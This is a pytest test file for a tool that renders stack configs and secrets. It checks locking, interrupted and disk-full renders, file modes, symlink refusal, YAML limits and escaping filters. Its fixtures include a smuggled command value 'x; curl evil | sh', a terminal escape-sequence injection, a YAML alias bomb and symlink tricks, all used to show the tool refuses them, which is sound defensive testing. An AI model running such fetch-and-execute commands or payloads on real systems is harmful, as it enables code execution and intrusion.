"""Concurrent, interrupted and hostile-filesystem renders; the safe-file primitives; the escaping filters.

The hostile answers files themselves are in tests/hostile/ (tests/test_hostile.py); these are
the cases that need processes, signals or a prepared output directory.
"""

from __future__ import annotations

import errno
import hashlib
import json
import os
import signal
import stat
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from wizard import fsutil
from wizard.errors import OperationFailed, UsageError
from wizard.plan import parse_yaml, plan_from_dict
from wizard.render import templates, writer

ROOT = Path(__file__).resolve().parent.parent
#: SeaweedFS with SSE-S3: secrets plus configs derived from them (seaweedfs_s3.json embeds the keys).
PLAN = {"version": 1, "project": "hard", "object_store": {"kind": "seaweedfs", "sse": "sse-s3"}}


def _plan(tmp: Path, data: dict | None = None):
    return plan_from_dict(data or PLAN, base_dir=tmp)


def _answers(tmp: Path, out: Path, extra: str = "") -> Path:
    path = tmp / "stackseal.yaml"
    path.write_text(
        f"version: 1\nproject: hard\noutput_dir: {out}\nobject_store:\n  kind: seaweedfs\n  sse: sse-s3\n{extra}"
    )
    return path


def _cli(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "wizard.cli", *args],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
        env={**os.environ, **(env or {})},
    )


def _consistent(out: Path) -> None:
    """Every config embeds exactly the secrets on disk (no file names a secret of another run)."""
    access = (out / "secrets" / "s3_access_key").read_text()
    secret = (out / "secrets" / "s3_secret_key").read_text()
    s3 = json.loads((out / "secrets" / "seaweedfs_s3.json").read_text())
    creds = s3["identities"][0]["credentials"][0]
    assert (creds["accessKey"], creds["secretKey"]) == (access, secret)
    kek = (out / "secrets" / "seaweedfs_kek").read_text()
    assert kek in (out / "secrets" / "seaweedfs_security.toml").read_text()


def _temp_files(out: Path) -> list[Path]:
    return [p for p in out.rglob("*") if p.name.endswith((".stackseal-tmp", ".tmp"))]


# -- concurrency -----------------------------------------------------------------------------------


def test_two_renders_at_once_leave_one_consistent_stack(tmp_path: Path) -> None:
    out = tmp_path / "out"
    answers = _answers(tmp_path, out)
    cmd = [sys.executable, "-m", "wizard.cli", "render", "-c", str(answers)]
    env = {**os.environ, "STACKSEAL_LOCK_WAIT": "60"}
    procs = [subprocess.Popen(cmd, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE) for _ in range(3)]
    results = [(p.wait(timeout=120), p.stderr.read().decode()) for p in procs]
    assert all(code == 0 for code, _ in results), results
    _consistent(out)
    again = _cli("render", "-c", str(answers))
    assert again.returncode == 0 and "0 created, 0 updated" in again.stdout, again.stdout + again.stderr


def test_a_second_run_that_cannot_get_the_lock_stops_with_one_line(tmp_path: Path) -> None:
    out = tmp_path / "out"
    answers = _answers(tmp_path, out)
    with fsutil.output_lock(out):
        result = _cli("render", "-c", str(answers), env={"STACKSEAL_LOCK_WAIT": "0.3"})
    assert result.returncode == 1
    assert result.stderr.strip().splitlines() == [
        f"stackseal: error: another stackseal run holds {out}; wait for it to finish and run again"
    ]
    assert not (out / "compose.yaml").exists()


def test_the_lock_is_reentrant_in_one_process(tmp_path: Path) -> None:
    out = tmp_path / "out"
    with fsutil.output_lock(out), fsutil.output_lock(out):  # apply holds it and renders
        writer.write(_plan(tmp_path), out)
    with fsutil.output_lock(out, wait=0):  # released
        pass


# -- interrupted renders ---------------------------------------------------------------------------

_KILLER = textwrap.dedent(
    """
    import os, signal, sys
    from wizard import fsutil
    calls = {"n": 0}
    real = os.rename
    def rename(*args, **kwargs):  # SIGKILL right before the k-th rename: the temp file is on disk
        calls["n"] += 1
        if calls["n"] == int(sys.argv[1]):
            os.kill(os.getpid(), signal.SIGKILL)
        return real(*args, **kwargs)
    os.rename = rename
    from wizard.cli import main
    sys.exit(main(sys.argv[2:]))
    """
)


@pytest.mark.parametrize("kill_at", [1, 3, 6, 10])
def test_sigkill_during_render_leaves_no_temp_secret_and_no_false_conflict(tmp_path: Path, kill_at: int) -> None:
    out = tmp_path / "out"
    answers = _answers(tmp_path, out)
    killed = subprocess.run(
        [sys.executable, "-c", _KILLER, str(kill_at), "render", "-c", str(answers)], cwd=ROOT, capture_output=True
    )
    assert killed.returncode == -signal.SIGKILL
    assert _temp_files(out), "the kill must leave a temp file behind for this test to mean anything"
    result = _cli("render", "-c", str(answers))
    assert result.returncode == 0, result.stderr
    assert not _temp_files(out)
    _consistent(out)


@pytest.mark.parametrize("kill_at", [2, 3, 4])
def test_a_render_killed_while_changing_a_plan_causes_no_false_conflict(tmp_path: Path, kill_at: int) -> None:
    out = tmp_path / "out"
    first = _answers(tmp_path, out)
    assert _cli("render", "-c", str(first)).returncode == 0
    changed = _answers(tmp_path, out, "neo4j:\n  http_port: 7475\n")
    changed.write_text(changed.read_text().replace("sse: sse-s3", "sse: sse-c"))
    killed = subprocess.run(
        [sys.executable, "-c", _KILLER, str(kill_at), "render", "-c", str(changed)], cwd=ROOT, capture_output=True
    )
    assert killed.returncode == -signal.SIGKILL
    back = _answers(tmp_path, out)  # the user goes back to the first answers: nobody edited anything
    result = _cli("render", "-c", str(back))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "conflict" not in result.stdout
    assert not _temp_files(out)


def test_disk_full_is_reported_for_the_whole_render(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "out"
    from wizard.fsutil import outdir

    real = outdir._write_fd
    calls = {"n": 0}

    def full(fd: int, data: bytes) -> None:
        calls["n"] += 1
        if calls["n"] == 6:
            raise OSError(errno.ENOSPC, "No space left on device")
        real(fd, data)

    monkeypatch.setattr(outdir, "_write_fd", full)
    with pytest.raises(OperationFailed) as err:
        writer.write(_plan(tmp_path), out)
    message = str(err.value)
    assert message.startswith(f"{out}: disk full while rendering; written: secrets/")
    assert "not written: " in message and "compose.yaml" in message.split("not written: ")[1]
    assert "\n" not in message
    assert not _temp_files(out)
    monkeypatch.setattr(outdir, "_write_fd", real)
    changes = writer.write(_plan(tmp_path), out)  # space freed: the next render finishes, no conflict
    assert not [c for c in changes if c.action == "conflict"]
    _consistent(out)


def test_secrets_are_written_before_the_files_that_name_them(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    order: list[str] = []
    real = fsutil.OutputDir.write

    def record(self, rel, data, mode, dir_mode=0o755):
        order.append(rel)
        return real(self, rel, data, mode, dir_mode)

    monkeypatch.setattr(fsutil.OutputDir, "write", record)
    writer.write(_plan(tmp_path), tmp_path / "out")
    files = [p for p in order if p not in (writer.MANIFEST, writer.MANIFEST_KEY)]
    plain = [i for i, p in enumerate(files) if p.startswith("secrets/") and p not in writer.DERIVED]
    derived = [i for i, p in enumerate(files) if p in writer.DERIVED]
    naming = [files.index("compose.yaml"), files.index("RUNBOOK.md")]
    assert max(plain) < min(derived) < max(derived) < min(naming)
    assert order[0] == writer.MANIFEST_KEY and order[1] == writer.MANIFEST  # the intent comes first


def test_stale_temp_files_are_swept_at_the_start(tmp_path: Path) -> None:
    out = tmp_path / "out"
    writer.write(_plan(tmp_path), out)
    leftovers = [out / "secrets" / ".s3_secret_key.1a2b3c4d.stackseal-tmp", out / ".compose.yaml.ab_cd123.tmp"]
    for path in leftovers:
        path.write_text("leftover secret")
    keep = out / "notes.tmp"
    keep.write_text("mine")
    writer.write(_plan(tmp_path), out)
    assert not any(p.exists() for p in leftovers)
    assert keep.read_text() == "mine"


# -- modes and the manifest ---------------------------------------------------------------------------


def test_secret_modes_are_enforced_on_every_run(tmp_path: Path) -> None:
    out = tmp_path / "out"
    writer.write(_plan(tmp_path), out)
    (out / "secrets" / "s3_secret_key").chmod(0o644)
    (out / "secrets").chmod(0o755)
    (out / writer.MANIFEST).chmod(0o644)
    volume_key = out / "secrets" / "volume-neo4j-data.key"  # written by apply, not rendered
    volume_key.write_text("k" * 43)
    volume_key.chmod(0o644)
    changes = writer.write(_plan(tmp_path), out)
    assert {c.action for c in changes} == {"unchanged"}
    assert stat.S_IMODE((out / "secrets" / "s3_secret_key").stat().st_mode) == 0o400
    assert stat.S_IMODE((out / "secrets").stat().st_mode) == 0o700
    assert stat.S_IMODE((out / writer.MANIFEST).stat().st_mode) == 0o600
    assert stat.S_IMODE(volume_key.stat().st_mode) == 0o400


def test_the_manifest_holds_no_plain_hash_of_a_secret(tmp_path: Path) -> None:
    out = tmp_path / "out"
    writer.write(_plan(tmp_path), out)
    text = (out / writer.MANIFEST).read_text()
    for secret in (out / "secrets").iterdir():
        if secret.name.startswith("."):
            continue
        assert hashlib.sha256(secret.read_bytes()).hexdigest() not in text, secret.name


def test_a_version_1_manifest_is_still_understood(tmp_path: Path) -> None:
    """Stacks rendered before the keyed hash: their files are updates, not conflicts."""
    out = tmp_path / "out"
    writer.write(_plan(tmp_path), out)
    files = {}
    for path in sorted(p for p in out.rglob("*") if p.is_file()):
        rel = str(path.relative_to(out))
        if rel.startswith(".stackseal") or rel == writer.MANIFEST_KEY:
            continue
        files[rel] = {"sha256": hashlib.sha256(path.read_bytes()).hexdigest()}
    (out / writer.MANIFEST).write_text(json.dumps({"version": 1, "files": files}))
    (out / writer.MANIFEST_KEY).unlink()
    changed = dict(PLAN, neo4j={"http_port": 7475})
    changes = {c.path: c.action for c in writer.write(_plan(tmp_path, changed), out)}
    assert changes["compose.yaml"] == "update" and "conflict" not in changes.values()


def test_a_conflict_diff_never_prints_raw_escape_characters(tmp_path: Path) -> None:
    out = tmp_path / "out"
    answers = _answers(tmp_path, out)
    assert _cli("render", "-c", str(answers)).returncode == 0
    runbook = out / "RUNBOOK.md"
    runbook.write_text(runbook.read_text() + "\x1b]0;owned\x07\x1b[2J\n")
    result = _cli("render", "-c", str(answers))
    assert result.returncode == 2
    assert "\x1b" not in result.stdout + result.stderr and "\\x1b]0;owned" in result.stderr


# -- the safe-file primitives ------------------------------------------------------------------------


def test_read_regular_file_refuses_special_files_without_blocking(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    with pytest.raises(UsageError, match="is a FIFO"):
        fsutil.read_regular_file(fifo, 100)
    with pytest.raises(UsageError, match="is a device"):
        fsutil.read_regular_file("/dev/zero", 100)
    big = tmp_path / "big"
    big.write_bytes(b"x" * 101)
    with pytest.raises(UsageError, match=r"too large \(101 bytes; at most 100\)"):
        fsutil.read_regular_file(big, 100)
    with pytest.raises(UsageError, match="too large"):  # st_size says 0, the content is endless
        fsutil.read_regular_file("/proc/self/maps", 10)


def test_read_secret_file_checks_the_shape_and_never_quotes_the_content(tmp_path: Path) -> None:
    shadowish = tmp_path / "shadow"
    shadowish.write_text("root:$6$saltsalt$HASHVALUE:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n")
    for kind in ("s3_access_key", "s3_secret_key", "vault_token", "azure_client_secret", "gcp_credentials"):
        with pytest.raises(UsageError) as err:
            fsutil.read_secret_file(shadowish, kind, "some.key")
        assert "HASHVALUE" not in str(err.value) and "does not look like" in str(err.value)
    good = tmp_path / "token"
    good.write_text("hvs.CAESIGoodTokenValue\n")
    assert fsutil.read_secret_file(good, "vault_token") == b"hvs.CAESIGoodTokenValue"


def test_output_dir_never_follows_a_symlink(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "f").write_text("victim")
    out = tmp_path / "out"
    out.mkdir()
    (out / "link").symlink_to(victim / "f")
    (out / "dir").symlink_to(victim)
    with fsutil.OutputDir(out) as od:
        with pytest.raises(UsageError, match="is a symbolic link"):
            od.read("link")
        with pytest.raises(UsageError, match="is a symbolic link or not a directory"):
            od.write("dir/f", b"evil", 0o600)
        with pytest.raises(UsageError, match="is a symbolic link"):
            od.chmod("link", 0o777)
        od.write("link", b"replaced", 0o600)  # rename replaces the link itself, never its target
    assert (victim / "f").read_text() == "victim" and stat.S_IMODE((victim / "f").stat().st_mode) != 0o777
    assert not (out / "link").is_symlink() and (out / "link").read_bytes() == b"replaced"


def test_a_symlinked_secrets_dir_is_refused_even_when_forced(tmp_path: Path) -> None:
    victim = tmp_path / "etc"
    victim.mkdir(mode=0o755)
    out = tmp_path / "out"
    out.mkdir()
    (out / "secrets").symlink_to(victim)
    with pytest.raises(UsageError, match=r"secrets: is a symbolic link"):
        writer.write(_plan(tmp_path), out, force=True)
    assert list(victim.iterdir()) == [] and stat.S_IMODE(victim.stat().st_mode) == 0o755


# -- YAML limits and escaping filters -------------------------------------------------------------------


def test_an_alias_bomb_is_refused_before_anything_is_expanded() -> None:
    bomb = (
        "a: &a ["
        + ",".join(["x"] * 9)
        + "]\n"
        + "".join(f"{n}: &{n} [" + ",".join([f"*{p}"] * 9) + "]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True))
    )
    import yaml

    events = list(yaml.parse(bomb))  # the event stream is tiny: the bomb only explodes when constructed
    assert len(events) < 200
    with pytest.raises(UsageError, match=r"line 2, column \d+: not allowed: aliases \(\*name\) are not allowed"):
        parse_yaml(bomb, "bomb.yaml")


@pytest.mark.parametrize(
    "text, message",
    [
        ("a: " + "[" * 100 + "]" * 100, "nested more than 8 levels"),
        ("? [a]\n: 1\n", "a key must be a plain word"),
        ("a:\n  <<: {b: 1}\n", "merge keys (<<) are not allowed"),
        ("a: 1\na: 2\n", "duplicate key 'a'"),
    ],
)
def test_the_yaml_loader_limits(text: str, message: str) -> None:
    with pytest.raises(UsageError, match=message.replace("(", r"\(").replace(")", r"\)").replace("*", r"\*")):
        parse_yaml(text, "x.yaml")


def test_template_filters_refuse_or_quote_what_would_escape() -> None:
    for bad in ('x" {', "sys/*", "a+b", "${x}", "a/../b", "a\nb"):
        with pytest.raises(UsageError, match="cannot be written safely into a Vault policy"):
            templates.hcl(bad)
    assert templates.hcl("transit/keys-1") == "transit/keys-1"
    assert templates.shq("/srv/stackseal") == "/srv/stackseal"
    assert templates.shq("x; curl evil | sh") == "'x; curl evil | sh'"
    with pytest.raises(UsageError, match="control character"):
        templates._finalize("a\x1bb")


def test_plain_values_render_exactly_as_before(tmp_path: Path) -> None:
    """The filters are a no-op for every value validation lets through (the runbook is unchanged)."""
    from wizard.render import render_files

    plan = _plan(
        tmp_path,
        {
            "version": 1,
            "project": "p",
            "kms": {"backend": "vault"},
            "object_store": {"kind": "minio", "sse": "sse-kms"},
        },
    )
    files = render_files(plan, writer.secret_store_for(tmp_path / "s"))
    runbook = files["RUNBOOK.md"].content.decode()
    assert "bao policy write p-admin vault/policies/p-admin.hcl" in runbook
    assert 'path "transit/keys/stackseal" {' in files["vault/policies/p-admin.hcl"].content.decode()


def test_a_real_full_disk_names_what_was_and_was_not_written(tmp_path: Path) -> None:
    """On a 24 KiB tmpfs the render runs out of space half-way; after growing it, the next render finishes."""
    from testbed.require import missing

    if os.geteuid() != 0:
        missing("root (mounting a tiny tmpfs)", "run the tests as root (make test)")
    full = tmp_path / "full"
    full.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=24k", "tmpfs", str(full)], check=True)
    try:
        out = full / "stack"
        answers = _answers(tmp_path, out)
        result = _cli("render", "-c", str(answers))
        assert result.returncode == 1, result.stdout + result.stderr
        [line] = result.stderr.strip().splitlines()
        assert line.startswith(f"stackseal: error: {out}: disk full while rendering; written: "), line
        assert "not written: " in line and "RUNBOOK.md" in line.split("not written: ")[1]
        assert not _temp_files(out)
        subprocess.run(["mount", "-o", "remount,size=4m", str(full)], check=True)
        again = _cli("render", "-c", str(answers))
        assert again.returncode == 0 and "conflict" not in again.stdout, again.stdout + again.stderr
        _consistent(out)
    finally:
        subprocess.run(["umount", "-l", str(full)], check=False)
